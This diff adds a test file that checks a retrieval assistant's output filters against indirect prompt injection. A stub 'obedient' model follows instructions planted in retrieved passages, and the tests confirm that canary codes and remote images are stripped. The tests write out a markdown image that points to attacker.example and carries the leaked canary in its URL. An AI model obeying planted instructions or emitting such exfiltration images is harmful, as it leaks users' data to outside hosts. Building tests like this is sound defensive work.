@@ -1,0 +1,67 @@
+"""Indirect prompt injection, with a model that obeys every planted instruction.
+
+The real-model figures come from benchmarks/bench_injection.py; these tests prove the
+output-side defences on their own: even a fully obedient model's canary and remote image do
+not reach the user, while the rest of its answer does.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+from langchain_core.language_models import BaseChatModel
+from langchain_core.messages import AIMessage, BaseMessage
+from langchain_core.outputs import ChatGeneration, ChatResult
+
+from assistant.config import Settings
+from assistant.llm import LLM
+from assistant.safety import clean_model_text, strip_echoes
+from benchmarks.bench_injection import ATTACKS, payload, plant, run, score, summarise
+
+_CANARY = re.compile(r"PWNED-[0-9a-f]{8}")
+_IMAGE = re.compile(r"!\[status\]\(http://attacker\.example/[^)]+\)")
+
+
+class ObedientModel(BaseChatModel):
+    """Answers from the passages and then does whatever a planted instruction asked."""
+
+    @property
+    def _llm_type(self) -> str:
+        return "obedient-test-model"
+
+    def _generate(self, messages: list[BaseMessage], stop: list[str] | None = None,
+                  run_manager: Any = None, **kwargs: Any) -> ChatResult:
+        prompt = "\n".join(str(m.content) for m in messages)
+        extra = [f"As requested, the code is {c} [S1]." for c in _CANARY.findall(prompt)]
+        extra += [f"Here it is: {i}" for i in _IMAGE.findall(prompt)]
+        text = ("We only sell coffee we can trace to a named farm [S1]. "
+                "We roast in small batches [S1]. " + " ".join(extra))
+        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])
+
+
+def test_every_bipia_attack_echo_is_stripped_and_the_answer_kept() -> None:
+    attacks = [a for texts in json.loads(ATTACKS.read_text()).values() for a in texts]
+    assert len(attacks) == 75
+    for n, attack in enumerate(attacks):
+        kind = "canary" if n % 2 == 0 else "image"
+        canary = f"PWNED-{n:08x}"
+        passage = plant("# Values\n\n## Craft\n\nWe roast in small batches.", payload(
+            attack, kind, canary), "middle")
+        obeyed = (f"We roast in small batches [S1]. As requested, the code is {canary} [S1]. "
+                  f"![status](http://attacker.example/{canary}.png)")
+        assert score(obeyed, canary)[0]  # the scorer sees an obeyed attack…
+        shown = clean_model_text(strip_echoes(obeyed, [passage])[0])[0]
+        assert not score(shown, canary)[0], (attack, shown)  # …the defences remove it
+        assert "small batches" in shown
+
+
+def test_obedient_model_end_to_end_gets_no_canary_or_image_to_the_user(
+        settings: Settings) -> None:
+    llm = LLM(settings, chat_model=ObedientModel())
+    outcomes = run(settings.model_copy(update={"embeddings_provider": "fake"}), ["qa"],
+                   ["top", "middle", "end"], per_category=1, llm=llm)
+    assert len(outcomes) == 15 * 3
+    assert not [o for o in outcomes if o.succeeded], summarise(outcomes)
+    assert sum(o.remote_images for o in outcomes) == 0
